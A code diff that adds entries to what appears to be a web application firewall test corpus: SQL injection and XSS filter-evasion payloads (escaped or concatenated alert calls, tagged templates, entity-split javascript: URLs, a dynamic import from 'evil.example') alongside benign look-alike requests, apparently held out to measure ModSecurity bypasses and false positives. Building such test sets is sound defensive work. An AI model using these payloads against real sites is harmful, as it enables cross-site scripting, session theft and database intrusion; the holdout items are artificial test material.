@@ -555,6 +555,15 @@ const HOLDOUT_4_ATTACKS: CorpusEntry[] = [
   { category: 'sqli', name: 'holdout-4: base64 time-based blind in a custom header without the X- prefix', why: 'A context header decoded into a query', path: '/api/runs', headers: { ...bearer, 'Request-Context': base64("1' AND SLEEP(5)-- -") } },
   { category: 'xss', name: 'holdout-4: a form body without a Content-Type', why: 'No body processor parses it, so no rule reads its arguments; an application may still read it as a form', method: 'POST', path: '/api/feedback', headers: bearer, body: 'comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&rating=5' },
   { category: 'sqli', name: 'holdout-4: a login body without a Content-Type', why: 'The same bypass with a tautology', method: 'POST', path: '/api/auth/login', body: "username=admin'%20OR%20'1'%3D'1&password=x" },
+  // Script gadgets: a value reflected into a script or an attribute, with no tag and no dialog name in one piece
+  { category: 'xss', name: 'holdout-4: a member of a global object called by an escaped name', why: 'An octal escape hides the function name from every filter', path: `/api/search?q=${pct("top['al\\145rt'](document.domain)")}` },
+  { category: 'xss', name: 'holdout-4: a member of a global object called by a built name', why: 'The name is concatenated at run time', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct("window[['a'][0]+'lert'](1337)")}` },
+  { category: 'xss', name: 'holdout-4: a tagged template call in a cookie', why: 'call with a template literal needs no parentheses', path: '/dashboard/runs', headers: { Cookie: 'theme=dark; note=Array.prototype.sort.call`${alert}1337`' } },
+  { category: 'xss', name: 'holdout-4: a dialog passed as a callback in the Referer', why: 'A method receives the dialog function and calls it', path: '/api/agents', headers: { ...bearer, Referer: 'https://app.factory.example.com/?next=[1,2,3].with(0,alert).shift()(1)' } },
+  { category: 'xss', name: 'holdout-4: an event handler as a whole form value', why: 'Reflected into an open attribute list', method: 'POST', path: '/api/feedback', headers: form, body: `comment=${pct('onfocus=alert(document.domain) autofocus')}&rating=1` },
+  { category: 'xss', name: 'holdout-4: HTML5 entities between the letters of a script URL', why: 'j&Tab;avascript&colon; reads as javascript: in a browser, and ModSecurity does not decode these entities', path: `/api/auth/callback?next=${pct('j&Tab;avascript&colon;alert(1)')}` },
+  { category: 'xss', name: 'holdout-4: a dynamic import in a custom header', why: 'A header shown by an admin page that loads a remote module', path: '/api/health', headers: { 'Client-Note': "import('//evil.example/x.js')" } },
+  { category: 'xss', name: 'holdout-4: XMLHttpRequest in the User-Agent', why: 'A log viewer that renders user agents runs it', path: '/api/health', headers: { 'User-Agent': "x=new XMLHttpRequest();x.open('GET','/api/me');x.send()" } },
 ];
 
 const HOLDOUT_4_BENIGN: CorpusEntry[] = [
@@ -564,6 +573,9 @@ const HOLDOUT_4_BENIGN: CorpusEntry[] = [
   { category: 'read', name: 'holdout-4: a custom header with a name and apostrophes', why: 'Device names are prose', path: '/api/me', headers: { ...bearer, 'Device-Name': "Siobhán's MacBook Pro (work)" } },
   { category: 'read', name: 'holdout-4: base64 cookies', why: 'Preferences as base64 JSON and a CSRF token of random bytes', path: '/dashboard/agents', headers: { Cookie: `prefs=${base64(JSON.stringify({ theme: 'dark', lang: 'de', select: 'recent runs' }))}; csrftoken=${base64(Buffer.from('7c1f09ae44b2d38e5a6b0f1e2d3c4b5a69788796', 'hex'))}` } },
   { category: 'write', name: 'holdout-4: a POST without a body', why: 'Actions such as cancel send no body and no Content-Type', raw: 'POST /api/runs/5f0c1e8a/cancel HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer rt_9f8e7d6c\r\nContent-Length: 0\r\n\r\n' },
+  { category: 'read', name: 'holdout-4: alert as a severity in lists', why: 'An ops platform filters by severities, one of them named alert', path: '/api/alerts?severity=warning,alert&levels=(info,alert)&sort=-created_at', headers: bearer },
+  { category: 'write', name: 'holdout-4: a question about computed calls and tagged templates', why: 'Front-end code in a prompt (an API body)', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does window[handlerName](event) throw here, and what does String.raw.call`x` return? Also [1,2,3].with(0, alert) in the docs.') },
+  { category: 'write', name: 'holdout-4: form values that start with on', why: 'ongoing, onboarding, online and "on error" are words, /onload/settings a path', method: 'POST', path: '/api/feedback', headers: { ...bearer, ...form }, body: 'status=ongoing&topic=onboarding&comment=one-off%20fix%2C%20online%20now%3B%20on%20error%20we%20retry&next=%2Fonload%2Fsettings' },
 ];
 
 export const ATTACKS: CorpusEntry[] = [
